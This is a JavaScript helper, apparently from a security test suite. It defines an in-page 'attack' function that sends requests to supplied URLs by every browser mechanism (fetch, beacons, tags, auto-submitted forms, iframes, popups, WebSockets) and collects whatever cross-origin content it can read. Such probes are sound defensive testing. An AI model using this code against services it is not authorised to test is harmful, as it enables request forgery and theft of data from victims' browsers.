// Runs in a page: everything that a page can send to the targets, by every way that a browser has. Resolves with
// what the page could read.
globalThis.attack = async ({ calls, frames, sockets }) => {
  const read = [];
  const attempts = [];
  const patience = 3000;

  const soon = (promise) =>
    Promise.race([promise.catch(() => undefined), new Promise((resolve) => setTimeout(resolve, patience))]);
  const note = async (what, response) => {
    const text = await response.text();
    if (text) read.push({ what, status: response.status, text });
  };

  for (const { url, method, headers, body } of calls) {
    const hasBody = method !== 'GET';
    const sent = { method, ...(hasBody && { body }) };
    attempts.push(
      fetch(url, { ...sent, headers }).then((response) => note(`fetch ${method} ${url}`, response)),
    );
    attempts.push(fetch(url, sent).then((response) => note(`simple fetch ${method} ${url}`, response)));
    for (const credentials of ['omit', 'include']) {
      const simple = hasBody ? { method: 'POST', body } : {};
      attempts.push(fetch(url, { ...simple, mode: 'no-cors', credentials }));
    }
    navigator.sendBeacon?.(url, body);
  }

  const added = [];
  const add = (name, properties) => {
    const element = Object.assign(document.createElement(name), properties);
    attempts.push(
      new Promise((resolve) => {
        element.onload = resolve;
        element.onerror = resolve;
      }),
    );
    document.documentElement.append(element);
    added.push(element);
    return element;
  };
  for (const { url, body } of calls) {
    add('img', { src: url });
    add('script', { src: url });
    add('link', { rel: 'stylesheet', href: url });
    for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
      const frame = add('iframe', { name: `frame${added.length}` });
      const form = add('form', { action: url, method: 'post', enctype, target: frame.name });
      for (const [name, value] of new URLSearchParams(body)) {
        form.append(Object.assign(document.createElement('input'), { name, value }));
      }
      form.submit();
    }
  }
  for (const url of frames) {
    const frame = add('iframe', { src: url });
    attempts.push(
      new Promise((resolve) => setTimeout(resolve, patience)).then(() => {
        const text = frame.contentDocument?.documentElement.innerHTML ?? '';
        if (text && frame.contentWindow?.location.href !== 'about:blank')
          read.push({ what: `frame ${url}`, text });
      }),
    );
    const opened = open(url);
    attempts.push(
      new Promise((resolve) => setTimeout(resolve, patience)).then(() => {
        const text = opened?.document?.documentElement.innerHTML ?? '';
        if (text && opened?.location.href !== 'about:blank') read.push({ what: `window ${url}`, text });
      }),
    );
  }
  for (const url of sockets) {
    attempts.push(
      new Promise((resolve) => {
        const socket = new WebSocket(url);
        socket.onopen = () => resolve(read.push({ what: `socket ${url}`, text: 'opened' }));
        socket.onerror = resolve;
      }),
    );
  }

  await Promise.all(attempts.map(soon));
  return read;
};
